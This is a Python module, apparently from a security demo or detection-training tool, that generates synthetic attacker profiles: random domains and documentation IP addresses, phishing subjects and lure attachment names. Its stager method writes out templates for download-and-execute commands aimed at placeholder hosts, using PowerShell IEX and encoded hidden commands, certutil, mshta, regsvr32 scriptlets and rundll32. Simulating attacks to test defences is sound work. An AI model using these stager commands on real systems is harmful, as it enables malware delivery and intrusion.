"""Who attacks: names, addresses and habits drawn anew for every incident, so that no rule can know them beforehand.

Names lie under domains reserved for examples and tests (RFC 2606, RFC 6761), addresses in networks reserved for
documentation (RFC 5737). Commands are those that public reports and ATT&CK describe, in several spellings.
"""

from base64 import b64encode
from random import Random

from hinomi.demo.programs import EXCEL, SYSTEM, WORD
from hinomi.demo.websites import MALICIOUS, NEWS, PHISHING, SHARING, TECHNOLOGY, Site

SYLLABLES = [
    "ka",
    "ru",
    "mo",
    "te",
    "shi",
    "na",
    "lo",
    "ve",
    "tri",
    "quan",
    "pel",
    "dor",
    "zi",
    "fex",
    "mun",
    "bor",
    "cal",
    "ith",
    "ora",
    "nim",
    "sta",
    "gul",
    "rex",
    "vo",
]
ENDINGS = ("example", "invalid", "test", "example.com", "example.net", "example.org")
UNRATED, NEW_DOMAIN, DYNAMIC = (0, "Unrated"), (90, "Newly Observed Domain"), (88, "Dynamic DNS")
RATINGS = {
    UNRATED: "未評価",
    NEW_DOMAIN: "新しく登録されたドメイン",
    DYNAMIC: "ダイナミックDNS",
    TECHNOLOGY: "コンピュータ/インターネット",
    SHARING: "オンラインストレージ",
    NEWS: "ニュース/メディア",
}
FAMILIES = ("Emotet", "Qakbot", "IcedID", "Ursnif", "AgentTesla", "Remcos", "AsyncRAT", "Formbook", "LokiBot", "Dridex")
SUBJECTS = (
    "【再送】御見積書の送付",
    "ご請求書 {0}",
    "図面差し替えのお願い",
    "Re: 納期のご相談",
    "FW: PO-{0}",
    "出荷明細 {0}",
    "Overdue invoice {0}",
    "採用応募書類",
    "賞与支払届",
    "新型ワクチン職域接種の件",
    "Request for quotation {0}",
    "検収書の件",
)
DOCUMENTS = ("見積書", "請求書", "inv", "PO", "図面", "scan", "doc", "応募書類", "shipping", "statement")
WEB_PATHS = ("/wp-content/uploads/{0}", "/{0}", "/img/{0}", "/~tmp/{0}", "/dl/{0}", "/assets/js/{0}", "/c/{0}")


class Attacker:
    """One of them; the same for the same random numbers."""

    def __init__(self, random: Random) -> None:
        self.random = random
        self.family = random.choice(FAMILIES)
        self.home = self.site()
        """Where it takes its orders."""
        self.store = self.site()
        """Where its files lie."""
        self.tool = f"{self.word(2)}{random.choice(('', '32', '64', 'svc', 'host', '_x64'))}.exe"
        self.document = f"{random.choice(DOCUMENTS)}_{random.randint(100, 99999)}"
        self.subject = random.choice(SUBJECTS).format(random.randint(1000, 99999))

    def word(self, syllables: int = 3) -> str:
        return "".join(self.random.choice(SYLLABLES) for _ in range(syllables))

    def domain(self) -> str:
        joined = self.random.choice(("", "-")).join(self.word(self.random.randint(1, 2)) for _ in range(2))
        return f"{self.random.choice(('', '', 'www.', 'cdn.', 'mail.'))}{joined}.{self.random.choice(ENDINGS)}"

    def address(self) -> str:
        network = self.random.choice(("203.0.113", "198.51.100"))
        return f"{network}.{self.random.randint(150, 254)}"

    def site(self, path: str = "", rating: tuple[int, str] | None = None) -> Site:
        """A site of its own; often nobody has rated it yet."""
        chosen = rating or self.random.choice(tuple(RATINGS))
        name = path or self.random.choice(WEB_PATHS).format(f"{self.word()}{self.random.choice(('', '.php', '.aspx'))}")
        return Site(self.domain(), self.address(), RATINGS.get(chosen, "不正サイト"), chosen, name)

    def harmful(self, path: str = "") -> Site:
        """One that a gateway knows as bad."""
        return self.site(path, self.random.choice((MALICIOUS, PHISHING)))

    def url(self, site: Site | None = None, ending: str = "") -> str:
        """Over http, in the path's own spelling."""
        where = site or self.store
        host = where.host if self.random.random() < 0.7 else where.ip
        return f"http://{host}/{self.word()}{ending}"

    def folder(self, user: str) -> str:
        """A place into which every user may write."""
        return self.random.choice(
            (
                f"C:\\Users\\{user}\\AppData\\Local\\Temp\\",
                f"C:\\Users\\{user}\\AppData\\Roaming\\{self.word()}\\",
                f"C:\\Users\\{user}\\AppData\\Local\\{self.word()}\\",
                "C:\\ProgramData\\",
                f"C:\\ProgramData\\{self.word()}\\",
                "C:\\Users\\Public\\",
                "C:\\Users\\Public\\Libraries\\",
            )
        )

    def encoded(self, script: str) -> str:
        """As PowerShell takes it: base64 of UTF-16."""
        return b64encode(script.encode("utf-16-le")).decode()

    def lure(self) -> tuple[str, str]:
        """Attachment, and the program that opens it."""
        return self.random.choice(
            (
                (f"{self.document}.docm", WORD),
                (f"{self.document}.doc", WORD),
                (f"{self.document}.xlsm", EXCEL),
                (f"{self.document}.xls", EXCEL),
                (f"{self.document}.one", WORD.replace("WINWORD", "ONENOTE")),
                (f"{self.document}.rtf", WORD),
            )
        )

    def stager(self, user: str) -> tuple[str, str]:
        """Path and command line of what a document, a page or a stick starts first."""
        drop = f"{self.folder(user)}{self.word()}"
        powershell, url = f"{SYSTEM}WindowsPowerShell\\v1.0\\powershell.exe", self.url()
        fetch = self.random.choice(
            (
                f"IEX(New-Object Net.WebClient).DownloadString('{url}')",
                f"iwr -uri {url} -outfile {drop}.exe; & {drop}.exe",
                f"$c=New-Object System.Net.WebClient;$c.DownloadFile('{url}','{drop}.dll');rundll32 {drop}.dll,Start",
                f"(New-Object Net.WebClient).DownloadData('{url}')|%{{[Reflection.Assembly]::Load($_)}}",
            )
        )
        hidden = self.random.choice(("-nop -w hidden", "-NoP -NonI -W Hidden -Exec Bypass", "-w 1 -ep bypass"))
        flag = self.random.choice(("-enc", "-EncodedCommand", "-e", "-ec"))
        return self.random.choice(
            (
                (powershell, f"powershell.exe {hidden} {flag} {self.encoded(fetch)}"),
                (powershell, f'powershell {hidden} -c "{fetch}"'),
                (f"{SYSTEM}cmd.exe", f"cmd.exe /c curl -s -o {drop}.exe {url} && start {drop}.exe"),
                (f"{SYSTEM}cmd.exe", f"cmd /c certutil -urlcache -split -f {url} {drop}.exe & {drop}.exe"),
                (f"{SYSTEM}mshta.exe", f"mshta.exe {self.url(ending='.hta')}"),
                (f"{SYSTEM}regsvr32.exe", f"regsvr32 /s /n /u /i:{self.url(ending='.sct')} scrobj.dll"),
                (
                    f"{SYSTEM}rundll32.exe",
                    f"rundll32.exe {drop}.{self.random.choice(('dll', 'dat', 'tmp'))},DllRegisterServer",
                ),
                (f"{SYSTEM}wscript.exe", f'"{SYSTEM}wscript.exe" "{drop}.{self.random.choice(("js", "vbs", "jse"))}"'),
            )
        )
